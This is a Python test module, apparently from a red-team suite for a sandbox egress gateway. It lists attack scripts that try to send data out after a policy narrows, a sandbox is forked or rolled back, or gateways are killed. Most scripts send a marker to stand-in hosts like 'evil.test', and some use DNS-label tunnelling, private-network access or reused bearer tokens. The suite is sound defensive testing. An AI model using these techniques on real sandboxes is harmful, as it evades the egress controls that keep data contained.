"""While something happens: a policy becomes narrower, a sandbox is paused, suspended, forked or taken back, a gateway is killed. What was open before is used after it."""

from hatchway.redteam.attacks.attack import BLOCKED, SOURCE, Attack, table

_ALLOWED = "b'GET /simple/ HTTP/1.1\\r\\nHost: {}\\r\\n\\r\\n'"
_MARKED = "b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: {}\\r\\n\\r\\n'"
_INDEX, _CLEAR = "index.test", "clear.test"
_H2 = "PREFACE + h2_frame(4, 0, 0)"

_OPEN = {
    "tls": f"s = opened('{_INDEX}'); alive(s, {_ALLOWED.format(_INDEX)}); hold(M); late(s, {_MARKED.format(_INDEX)})",
    "clear": f"s = opened('{_CLEAR}', 80, secured=False); alive(s, {_ALLOWED.format(_CLEAR)}); hold(M); late(s, {_MARKED.format(_CLEAR)})",
    "octets": "s = opened('raw.test', 9090, secured=False); alive(s, b'hello'); hold(M); late(s, B)",
    "h2": f"s = opened('{_INDEX}', alpn=['h2']); alive(s, {_H2} + h2_request(1, *get('/simple/'))); hold(M); late(s, h2_request(3, *get('/simple/' + M)))",
    "half-a-head": f"s = opened('{_INDEX}'); alive(s, {_ALLOWED.format(_INDEX)}); s.sendall(b'GET /simple/'); hold(M); late(s, B + b' HTTP/1.1\\r\\nHost: {_INDEX}\\r\\n\\r\\n')",
    "half-a-body": "s = opened('drop.test'); alive(s, b'POST /in HTTP/1.1\\r\\nHost: drop.test\\r\\nContent-Length: 0\\r\\n\\r\\n'); s.sendall(b'POST /in HTTP/1.1\\r\\nHost: drop.test\\r\\nContent-Length: 45\\r\\n\\r\\n'); hold(M); late(s, B)",
}
"""Connections that were let through, and have been used; after that nothing more may leave on them."""
_ANEW = {
    "new-connection": f"s = opened('{_INDEX}'); alive(s, {_ALLOWED.format(_INDEX)}); s.close(); hold(M); site('{_INDEX}', {_MARKED.format(_INDEX)})",
    "known-address": f"a = addr('{_INDEX}'); hold(M); tls(a, {_MARKED.format(_INDEX)}, '{_INDEX}')",
    "known-address-octets": "a = addr('raw.test'); hold(M); tcp(a, 9090, B)",
    "question": "ask(query(labels_of('raw.test'))); hold(M); ask(query(labels_of(M + '.raw.test')))",
}
_TOKEN = "P = placeholder(); R = b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n'; "
_OLD = {
    "environment": _TOKEN
    + "s = opened('api.test'); alive(s, b'GET /v1/' + R); s.close(); hold(M); site('api.test', b'GET /v1/' + B + R)",
    "connection": _TOKEN + "s = opened('api.test'); alive(s, b'GET /v1/' + R); hold(M); late(s, b'GET /v1/' + B + R)",
}
_ATTEMPTS = (
    "tries(lambda: tcp('203.0.113.9', 80, B), lambda: tls(addr('evil.test'), b'GET /' + B + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', 'evil.test'), "
    "lambda: ask(query(labels_of(M + '.evil.test'))), lambda: tcp(facts['zone']['private.test'], 8080, B))"
)  # fmt: skip
_LOOPED = {
    "address": "until(M, lambda: tcp('203.0.113.9', 80, B))",
    "site": "until(M, lambda: tls(addr('evil.test'), b'GET /' + B + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', 'evil.test'))",
    "question": "until(M, lambda: ask(query(labels_of(M + '.evil.test'))))",
    "datagram": "until(M, lambda: udp('203.0.113.53', 53, B))",
    "private-network": "until(M, lambda: tcp(facts['zone']['private.test'], 8080, B))",
    "name-server-over-tcp": "until(M, lambda: ask(query(labels_of(M + '.evil.test')), '203.0.113.53', over_tcp=True))",
}
_DENIED_PATH = {
    "path": f"until(M, lambda: site('{_INDEX}', b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: {_INDEX}\\r\\n\\r\\n'))",
    "placeholder-elsewhere": "P = placeholder(); until(M, lambda: site('api.test', b'GET /v1/' + B + b'?t=' + P + b' HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'))",
}
_EITHER = (BLOCKED, SOURCE)

DOCUMENTS = (
    ("G16", "unknown-key"), ("G16", "no-rules"), ("G16", "empty-hosts"), ("G16", "empty-destination"), ("G16", "all-hosts"), ("G16", "unknown-version"), ("G16", "key-twice"),
    ("G17", "no-length"), ("G17", "host-bits"), ("G17", "octal"), ("G25", "without-an-end"), ("G25", "for-years"), ("C08", "passthrough"), ("C08", "in-clear"),
    ("C18", "file"), ("C18", "variable"), ("C18", "program"), ("C18", "anothers-secret"), ("G13", "every-port"), ("N32", "metadata-network"),
)  # fmt: skip
"""Rows, and the documents of a policy that may not come into force: `meanwhile` has what they say."""

ATTACKS: tuple[Attack, ...] = (
    *table("G03", "A policy becomes narrower while something is open", _OPEN | _ANEW, (SOURCE,), "narrow"),
    *table("G05", "Paused, narrowed, resumed", {f"pause-{name}": script for name, script in (_OPEN | _ANEW).items()}, (SOURCE,), "pause"),
    *table("G05", "Suspended, narrowed, restored", {f"suspend-{name}": script for name, script in (_OPEN | _ANEW).items()}, (SOURCE,), "suspend"),
    *table("G06", "In a branch of a fork, with what its source had open", _OPEN | {"authority": "tried.append('authority'); hold(M)"}, (SOURCE,), "fork"),
    *table("G06", "Taken back to a snapshot, with what was open then", {f"rollback-{name}": script for name, script in _OPEN.items()}, (SOURCE,), "rollback"),
    *table("C11", "A placeholder of the source, in a branch of a fork", {f"fork-{name}": script for name, script in _OLD.items()}, (SOURCE,), "fork"),
    *table("C11", "A placeholder of before a snapshot", {f"rollback-{name}": script for name, script in _OLD.items()}, (SOURCE,), "rollback"),
    *table("G02", "While its policy is changed again and again", _LOOPED, _EITHER, "reload"),
    *table("G02", "While its policy is changed again and again", _DENIED_PATH, (SOURCE,), "reload"),
    *table("G01", "While the gateways and the broker are killed", _LOOPED, _EITHER, "kill"),
    *table("G01", "While the gateways and the broker are killed", _DENIED_PATH, (SOURCE,), "kill"),
    *(
        one
        for row, step in DOCUMENTS
        for one in table(row, "A policy that is refused", {f"document-{step}": f"tried.append('document'); hold(M, '{step}'); {_ATTEMPTS}"}, (BLOCKED,), "documents")
    ),
    *table("T21", "The authority of a sandbox, in another one", {"another-sandbox": "tried.append('authority'); hold(M)"}, (SOURCE,), "fork"),
)  # fmt: skip
